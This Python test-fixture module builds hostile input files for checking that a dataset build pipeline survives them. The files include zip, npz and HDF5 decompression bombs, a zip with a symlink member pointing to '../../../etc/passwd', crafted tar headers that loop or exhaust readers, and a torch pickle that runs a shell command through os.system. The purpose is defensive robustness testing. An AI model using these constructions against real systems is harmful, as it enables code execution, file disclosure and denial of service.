"""Hostile input files, as an attacker (or a bad disk) would make them, for tests that a build survives them.

Each writer makes a small real file that, read naively, costs gigabytes of memory, runs code, or breaks a json:

- :func:`write_overlapping_zip_bomb`: a DigiFace-like zip whose central directory points every member at one
  deflate stream that inflates to 60 MB (a ~70 KB file; 72 members make 4.3 GB per identity);
- :func:`write_symlink_member_zip`: a DigiFace part with one member stored as a symbolic link;
- :func:`write_zip_with_non_utf8_name`: a DigiFace part with one member name flagged UTF-8 that is not;
- :func:`write_npz_bomb`: an SFHQ landmarks ``.npz`` of ~3 MB whose array inflates to 3 GB;
- :func:`huge_array_pickle_bytes`: a features pickle asking numpy for a 2**40-element array;
- :func:`add_huge_hdf5_dataset`: a compressed HDF5 dataset declaring gigabytes in a few hundred KB;
- :func:`random_bytes_file`: what a truncated or mangled model download looks like;
- :func:`write_malicious_torch_pickle`: a ``torch.save`` zip whose ``data.pkl`` calls a shell command;
- :func:`non_utf8_name`: a file name with bytes that are not UTF-8 (as ``os.listdir`` returns it);
- :func:`crafted_tar_bytes`: a shard with one crafted tar header (:data:`TAR_CASES`: negative octal or base-256
  sizes that send the reader back into a loop, sizes past the end, a bad checksum, pax records that do the same or
  declare 2 GB);
- :func:`shared_buffer_pickle_bytes`: a features pickle of 4 MB whose 700 arrays share one buffer (2.9 GB copied);
- :func:`write_sparse_shard`: a facegen shard of image members of any size (:func:`padded_jpeg`), written sparse.

Inflating streams are built from one compressed block of zeros repeated (deflate blocks after a full flush stand
alone), so writing a 3 GB bomb takes a moment and no memory.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np

CHUNK = 1 << 20  # bytes of zeros per repeated deflate block


def deflated_zeros(size: int) -> bytes:
    """A raw deflate stream of ``size`` zero bytes, built without holding ``size`` bytes."""
    if size % CHUNK:
        raise ValueError(f"size must be a multiple of {CHUNK}")
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # an empty last block
    return block * (size // CHUNK) + final


def zeros_crc(size: int, crc: int = 0) -> int:
    """CRC-32 of ``crc``'s data followed by ``size`` zero bytes."""
    zeros = bytes(CHUNK)
    for _ in range(size // CHUNK):
        crc = zlib.crc32(zeros, crc)
    return crc


def _local_header(name: bytes, method: int, crc: int, csize: int, size: int, flags: int = 0) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, flags, method, 0, 0x5521, crc, csize, size, len(name), 0) + name


def _central_entry(name: bytes, method: int, crc: int, csize: int, size: int, offset: int, flags: int = 0,
                   external: int = 0o644 << 16) -> bytes:
    return struct.pack("<4s6H3L5H2L", b"PK\x01\x02", (3 << 8) | 20, 20, flags, method, 0, 0x5521, crc, csize,
                       size, len(name), 0, 0, 0, 0, external, offset) + name


def _end_record(entries: int, directory_size: int, directory_offset: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, directory_size, directory_offset, 0)


def write_overlapping_zip_bomb(path: str | os.PathLike, identity: int = 0, members: int = 72,
                               inflated: int = 60 << 20) -> Path:
    """One deflate stream of ``inflated`` zeros; ``members`` central-directory entries ``{identity}/{k}.png`` all
    point at it (same offset, valid CRC): each member, read on its own, inflates ``inflated`` bytes."""
    stream, crc = deflated_zeros(inflated), zeros_crc(inflated)
    first = f"{identity}/0.png".encode()
    body = _local_header(first, zipfile.ZIP_DEFLATED, crc, len(stream), inflated) + stream
    directory = b"".join(_central_entry(f"{identity}/{k}.png".encode(), zipfile.ZIP_DEFLATED, crc, len(stream),
                                        inflated, 0) for k in range(members))
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(body + directory + _end_record(members, len(directory), len(body)))
    return path


def _write_zip(path: Path, members: list[tuple[bytes, bytes, int, int]]) -> Path:
    """A plain stored zip of (name bytes, data, flags, external attributes), written byte by byte."""
    body, directory = b"", b""
    for name, data, flags, external in members:
        crc = zlib.crc32(data)
        offset = len(body)
        body += _local_header(name, zipfile.ZIP_STORED, crc, len(data), len(data), flags) + data
        directory += _central_entry(name, zipfile.ZIP_STORED, crc, len(data), len(data), offset, flags, external)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(body + directory + _end_record(len(members), len(directory), len(body)))
    return path


def write_symlink_member_zip(path: str | os.PathLike, pngs: dict[str, bytes], link: str,
                             target: str = "../../../etc/passwd") -> Path:
    """A zip of ``pngs`` (member name -> bytes) plus ``link``, a symbolic-link entry (Unix mode 0o120777) whose
    data is ``target``, as ``zip --symlinks`` stores one."""
    members = [(name.encode(), data, 0, 0o100644 << 16) for name, data in pngs.items()]
    members.append((link.encode(), target.encode(), 0, 0o120777 << 16))
    return _write_zip(Path(path), members)


def write_zip_with_non_utf8_name(path: str | os.PathLike, pngs: dict[str, bytes], bad_name: bytes,
                                 data: bytes) -> Path:
    """A zip of ``pngs`` plus a member named ``bad_name`` (bytes that are not UTF-8) flagged as UTF-8 (bit 11)."""
    members = [(name.encode(), png, 0x800, 0o100644 << 16) for name, png in pngs.items()]
    members.append((bad_name, data, 0x800, 0o100644 << 16))
    return _write_zip(Path(path), members)


def write_npz_bomb(path: str | os.PathLike, key: str = "landmarks", inflated: int = 3 << 30) -> Path:
    """An ``.npz`` whose ``{key}.npy`` declares a (N, 2) float64 array of ``inflated`` bytes, all zeros, deflated
    (~3 MB for 3 GB). ``np.load(path)[key]`` allocates and inflates all of it."""
    header_dict = {"descr": "<f8", "fortran_order": False, "shape": (inflated // 16, 2)}
    header = repr(header_dict).encode("latin1")
    pad = -(len(header) + 10 + 1) % 64
    npy_header = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header) + pad + 1) + header + b" " * pad + b"\n"
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(npy_header) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = head + deflated_zeros(inflated)
    crc = zeros_crc(inflated, zlib.crc32(npy_header))
    size = len(npy_header) + inflated
    name = f"{key}.npy".encode()
    local = _local_header(name, zipfile.ZIP_DEFLATED, crc, len(stream), size)
    directory = _central_entry(name, zipfile.ZIP_DEFLATED, crc, len(stream), size, 0)
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(local + stream + directory + _end_record(1, len(directory), len(local) + len(stream)))
    return path


class _HugeArray:
    """Pickles as numpy's own ``_reconstruct(ndarray, shape, dtype)`` call, with a shape no file could carry."""

    def __init__(self, elements: int):
        self.elements = elements

    def __reduce__(self):
        from numpy._core.multiarray import _reconstruct

        return _reconstruct, (np.ndarray, (self.elements,), b"b")


def huge_array_pickle_bytes(model: str = "CLIP_ViTL_14@336", elements: int = 2**40) -> bytes:
    """A features pickle ``{model: array}`` that names only numpy's allowed globals but asks numpy for an array
    of ``elements`` bytes (pickle.load raises MemoryError at 2**40, or maps terabytes)."""
    return pickle.dumps({model: _HugeArray(elements)}, protocol=2)


class _SharedBufferArray:
    """Pickles as numpy's ``_reconstruct`` and a state whose data is one bytes object shared by every such array: the
    pickle carries it once and refers to it from its memo (a few bytes) for each further array."""

    def __init__(self, state: tuple):
        self.state = state

    def __reduce__(self):
        from numpy._core.multiarray import _reconstruct

        return _reconstruct, (np.ndarray, (0,), b"b"), self.state


def shared_buffer_pickle_bytes(arrays: int = 700, buffer_bytes: int = 4 << 20, protocol: int = 2) -> bytes:
    """A features pickle ``{model_k: array}`` of ``arrays`` float32 arrays, each over the same ``buffer_bytes``
    buffer: a file of about ``buffer_bytes`` (under the features cap) that unpickles to ``arrays`` copies of it
    (700 x 4 MB: 2.9 GB). Protocol 5 shares it through ``_frombuffer`` instead."""
    data = np.random.default_rng(0).bytes(buffer_bytes)  # incompressible, as a real feature file
    if protocol >= 5:
        shared = np.frombuffer(data, dtype=np.float32)
        return pickle.dumps({f"model_{k}": shared for k in range(arrays)}, protocol=5)
    state = (1, (buffer_bytes // 4,), np.dtype(np.float32), False, data)
    return pickle.dumps({f"model_{k}": _SharedBufferArray(state) for k in range(arrays)}, protocol=protocol)


def add_huge_hdf5_dataset(file: str | os.PathLike, name: str, shape: tuple[int, ...], written: int = 0) -> None:
    """Create dataset ``name`` of ``shape`` float32, gzip-chunked, in an HDF5 file: only ``written`` leading
    values are stored; reading it whole allocates (and fills) every declared value."""
    import h5py

    with h5py.File(file, "a") as h5:
        if name in h5:
            del h5[name]
        chunk = tuple(min(d, 1 << 20) for d in shape)
        dataset = h5.create_dataset(name, shape=shape, dtype="float32", chunks=chunk, compression="gzip",
                                    compression_opts=9)
        if written:
            flat = np.random.default_rng(0).normal(size=written).astype(np.float32)
            dataset[(0,) * (len(shape) - 1) + (slice(0, written),)] = flat


def random_bytes_file(path: str | os.PathLike, size: int = 4096, seed: int = 0) -> Path:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(np.random.default_rng(seed).bytes(size))
    return path


class _ShellCommand:
    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def write_malicious_torch_pickle(path: str | os.PathLike, command: str, template: str | os.PathLike | None = None
                                 ) -> Path:
    """A ``torch.save`` zip (``template``'s members, or a fresh one) whose ``data.pkl`` runs ``command`` through
    ``os.system`` when unpickled without restrictions."""
    import io

    import torch

    path = Path(path)
    if template is None:
        buffer = io.BytesIO()
        torch.save({"weight": torch.zeros(2)}, buffer)
        source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    else:
        source = zipfile.ZipFile(io.BytesIO(Path(template).read_bytes()))
    with source, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as out:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("data.pkl"):
                data = pickle.dumps({"weight": _ShellCommand(command)}, protocol=2)
            out.writestr(info, data)
    return path


def non_utf8_name(text: str, raw: bytes = b"\xff") -> str:
    """``text`` + bytes that are not UTF-8, as ``os.listdir`` returns such a name (surrogate escapes)."""
    return text + os.fsdecode(raw)


# --------------------------------------------------------------------------------------------------------------
# Crafted tar headers (a facegen dataset's shards as an attacker would make them)
# --------------------------------------------------------------------------------------------------------------

TAR_CASES = ("negative octal size", "negative base-256 size", "absurd base-256 size", "size past the end",
             "bad checksum", "pax size going back", "huge pax record")


def ustar_header(name: str, size_field: bytes, kind: bytes = b"0", checksum: bool = True) -> bytes:
    """A USTAR header with any 12-byte size field and, unless ``checksum`` is False, a correct checksum."""
    header = bytearray(512)
    header[0:len(name)] = name.encode()
    header[100:108] = b"0000444\0"
    header[108:116] = header[116:124] = b"0000000\0"
    header[124:136] = size_field.ljust(12, b"\0")[:12]
    header[136:148] = b"00000000000\0"
    header[148:156] = b"        "
    header[156:157] = kind
    header[257:265] = b"ustar\x0000"
    if checksum:
        header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header)


def _member(name: str, data: bytes) -> bytes:
    return ustar_header(name, b"%011o\0" % len(data)) + data + bytes(-len(data) % 512)


def _pax_record(keyword: str, value: str) -> bytes:
    """One pax record, ``"LEN KEYWORD=VALUE\\n"`` where LEN counts the whole record."""
    body = f" {keyword}={value}\n"
    length = len(body) + 1
    while len(str(length)) + len(body) != length:
        length += 1
    return f"{length}{body}".encode()


def crafted_tar_bytes(case: str, key: str = "999999_000", padding: int = 0) -> bytes:
    """A tar of one good sample (``{key}.png``, ``.cls``, ``.json``), ``padding`` bytes of a good filler member,
    then one crafted header (``case``, one of :data:`TAR_CASES`) and a sample behind it that must never be listed.

    Read naively: each negative size sends the next header back to byte 1024 (a plain USTAR walk and ``tarfile``
    then loop forever, listing the same members again and again); a size past the end asks for data that is not
    there; a pax record declaring 2 GB asks ``tarfile`` to read 2 GB into memory."""
    good = _member(f"{key}.png", b"\x89PNG not decoded here") + _member(f"{key}.cls", b"7") + _member(
        f"{key}.json", b"{}")
    if padding:
        good += _member("filler.bin", bytes(padding))
    bad = f"{key[:-3]}001.png"
    behind = _member(f"{key[:-3]}002.png", b"after the damage")
    back = len(good) + 512 - 1024  # a size of minus this sends the next header back to the .cls member's
    if case == "negative octal size":
        crafted = ustar_header(bad, b"-%010o\0" % back)
    elif case == "negative base-256 size":  # two's complement, 0xff first (GNU tar's encoding)
        crafted = ustar_header(bad, b"\xff" + ((1 << 88) - back).to_bytes(11, "big"))
    elif case == "absurd base-256 size":
        crafted = ustar_header(bad, b"\x80" + (1 << 80).to_bytes(11, "big"))
    elif case == "size past the end":
        crafted = ustar_header(bad, b"%011o\0" % (1 << 30))
    elif case == "bad checksum":
        crafted = ustar_header(bad, b"%011o\0" % 4, checksum=False)
    elif case == "pax size going back":  # a valid pax record whose size sends the next header back
        record = _pax_record("size", str(-(back + 1024)))  # the member's data starts 1024 bytes later
        crafted = ustar_header("pax", b"%011o\0" % len(record), kind=b"x") + record + bytes(-len(record) % 512)
        crafted += ustar_header(bad, b"%011o\0" % 4)
    elif case == "huge pax record":
        crafted = ustar_header("pax", b"%011o\0" % (2 << 30), kind=b"x")
    else:
        raise ValueError(f"unknown case {case!r}")
    return good + crafted + behind + bytes(1024)


def padded_jpeg(padding: int, seed: int = 0) -> tuple[bytes, int]:
    """A valid 8x8 JPEG followed by ``padding`` zero bytes, as (the JPEG, ``padding``): decoders stop at its end
    marker, so checking it costs a few microseconds whatever its size, and a file of it may be sparse (megabytes on
    paper, nothing on the disk)."""
    from PIL import Image

    pixels = np.random.default_rng(seed).integers(0, 256, (8, 8, 3), dtype=np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, format="JPEG", quality=90)
    return buffer.getvalue(), padding


def write_sparse_shard(path: str | os.PathLike, samples: list[tuple[str, int, str, int]]) -> Path:
    """A shard of samples ``(key, cls, identity, padding)`` whose ``.png`` members hold :func:`padded_jpeg` images
    (a reader finds a JPEG, which a PNG dataset converts) written sparse (the zeros are skipped over, never
    written): a shard of gigabytes that takes no disk space."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as f:
        for n, (key, cls, identity, padding) in enumerate(samples):
            f.write(_member(f"{key}.cls", str(cls).encode()))
            f.write(_member(f"{key}.json", json.dumps({"identity": identity, "source": "fixture",
                                                       "source_ref": f"{identity}/{n}.png"}).encode()))
            head, zeros = padded_jpeg(padding, seed=n)
            size = len(head) + zeros
            f.write(ustar_header(f"{key}.png", b"%011o\0" % size) + head)
            f.seek(zeros + (-size % 512), os.SEEK_CUR)
        f.write(bytes(1024))  # the end-of-archive blocks (after a skipped region: they make the file that long)
    return path
